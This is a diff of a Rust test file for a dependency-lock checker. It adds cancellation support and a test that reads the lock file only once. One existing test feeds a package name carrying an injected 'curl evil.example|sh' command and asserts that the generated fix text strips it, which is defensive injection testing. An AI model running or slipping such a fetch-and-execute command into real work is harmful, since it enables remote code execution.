@@ -5,7 +5,7 @@ use super::*;
 
 fn found(packages: &Packages, files: &[(&str, &str)]) -> Vec<String> {
     let text = |path: &str| files.iter().find(|(name, _)| *name == path).map(|(_, text)| Rc::from(*text));
-    told(&findings(packages, &text))
+    told(&findings(packages, &text, &CancellationToken::new()))
 }
 
 const PACKAGE: &str = "package.json";
@@ -135,7 +135,7 @@ fn the_command_raises_what_differs_and_nothing_else() {
         let lock = lock(manager, path, named, &[]);
         let packages = samples::packages(vec![manifest(named, asks)], vec![lock]);
         let text = |file: &str| (file == path).then(|| Rc::from("{}"));
-        findings(&packages, &text)[0].fix.clone()
+        findings(&packages, &text, &CancellationToken::new())[0].fix.clone()
     };
     let composer = |asks: &[&str]| fix(Manager::Composer, "composer.lock", "composer.json", asks);
     assert!(composer(&["b/two ^2", "a/one ^1"]).starts_with("Run `composer update a/one b/two`, run the tests"));
@@ -155,4 +155,23 @@ fn the_command_raises_what_differs_and_nothing_else() {
     assert!(npm("my shop").starts_with("Run `cd \"my shop\" && npm install --package-lock-only`"));
     let hostile = npm("a;curl evil.example|sh");
     assert!(!hostile.contains('`') && !hostile.contains("evil"), "{hostile}");
+}
+
+#[test]
+fn a_lock_file_is_read_once_for_all_names_and_no_further_than_wanted() {
+    let asks: Vec<String> = (0..400).map(|number| format!("pkg-{number} ^1")).collect();
+    let asks: Vec<&str> = asks.iter().map(String::as_str).collect();
+    let lock = lock(Manager::Npm, "package-lock.json", PACKAGE, &[]);
+    let packages = samples::packages(vec![manifest(PACKAGE, &asks)], vec![lock]);
+    let read = std::cell::Cell::new(0);
+    let text = |path: &str| {
+        read.set(read.get() + usize::from(path == "package-lock.json"));
+        Some(Rc::from(if path == "package-lock.json" { "{\"packages\": \"pkg_7\"}" } else { "{}" }))
+    };
+    let cancel = CancellationToken::new();
+    let seen = told(&findings(&packages, &text, &cancel));
+    assert!(seen.len() == 1 && seen[0].ends_with("and 398 more"), "{seen:?}");
+    assert!(read.get() <= 2, "read {} times", read.get());
+    cancel.cancel();
+    assert_eq!(findings(&packages, &text, &cancel), []);
 }
